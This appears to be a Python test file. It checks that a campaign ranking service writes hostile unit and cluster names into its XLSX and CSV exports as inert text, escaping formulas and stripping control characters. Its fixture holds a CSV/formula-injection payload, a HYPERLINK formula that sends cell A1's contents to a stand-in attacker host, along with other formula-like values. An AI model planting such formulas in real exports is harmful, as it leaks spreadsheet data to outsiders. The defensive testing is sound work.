"""The ranking as a spreadsheet and a CSV when names are hostile: a unit's name from campaign-api with a
control character or starting like a formula, a cluster starting with `@`. Every export still opens
(and keeps opening on later calls), every such cell is text, and no control character is written."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from .conftest import CAMPAIGN_ID

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")'
CONTROL = "UBND xã Hòa\u0001 Phú"
PARTICIPANTS = [
    {"unit_code": "66-SKHCN", "unit_name": FORMULA, "cluster": "Khối Sở"},
    {"unit_code": "66-SYT", "unit_name": CONTROL, "cluster": "Khối Sở"},
    {"unit_code": "66-STC", "unit_name": "+SUM(1,2)", "cluster": "@Cụm\u0007 lạ"},
    {"unit_code": "66-X1", "unit_name": "-1+2", "cluster": None},
]
CONTROLS = {chr(c) for c in [*range(9), 11, 12, *range(14, 32), 127]}


async def _hostile_round(client, people, campaign, published_round) -> dict:
    campaign.answers[f"/v1/campaigns/{CAMPAIGN_ID}/participants"] = {"items": PARTICIPANTS}
    round_ = await published_round()
    generated = await client.post(f"/v1/rounds/{round_['id']}/scorecards/generate", headers=people["admin"])
    assert generated.status_code == 200, generated.text
    return round_


async def test_the_spreadsheet_writes_hostile_names_as_text_and_keeps_opening(
    client, people, campaign, published_round
):
    round_ = await _hostile_round(client, people, campaign, published_round)
    url = f"/v1/rounds/{round_['id']}/ranking.xlsx"

    for _ in range(2):  # a control character used to fail this export on every later call
        response = await client.get(url, headers=people["viewer"])
        assert response.status_code == 200, response.text
        sheet = load_workbook(io.BytesIO(response.content)).active
        cells = [cell for row in sheet.iter_rows(min_row=3) for cell in row]
        names = {row[2].value for row in sheet.iter_rows(min_row=3)}
        assert names == {"'" + FORMULA, "UBND xã Hòa Phú", "'+SUM(1,2)", "'-1+2"}
        clusters = {row[0].value for row in sheet.iter_rows(min_row=3)}
        assert "'@Cụm lạ" in clusters
        for cell in cells:
            assert cell.data_type in ("s", "inlineStr", "n"), (cell.coordinate, cell.data_type)  # never "f"
            if isinstance(cell.value, str):
                assert not CONTROLS & set(cell.value), cell.value


async def test_the_csv_writes_hostile_names_as_text(client, people, campaign, published_round):
    round_ = await _hostile_round(client, people, campaign, published_round)

    response = await client.get(f"/v1/rounds/{round_['id']}/ranking.csv", headers=people["viewer"])

    assert response.status_code == 200, response.text
    text = response.content.decode("utf-8-sig")
    assert not CONTROLS & set(text.replace("\r\n", "").replace("\n", ""))
    rows = list(csv.reader(io.StringIO(text)))[1:]
    assert {row[2] for row in rows} == {"'" + FORMULA, "UBND xã Hòa Phú", "'+SUM(1,2)", "'-1+2"}
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row


async def test_the_json_ranking_keeps_the_names_as_received(client, people, campaign, published_round):
    round_ = await _hostile_round(client, people, campaign, published_round)

    ranking = (await client.get(f"/v1/rounds/{round_['id']}/ranking", headers=people["viewer"])).json()

    assert {item["subject_name"] for item in ranking["items"]} == {p["unit_name"] for p in PARTICIPANTS}
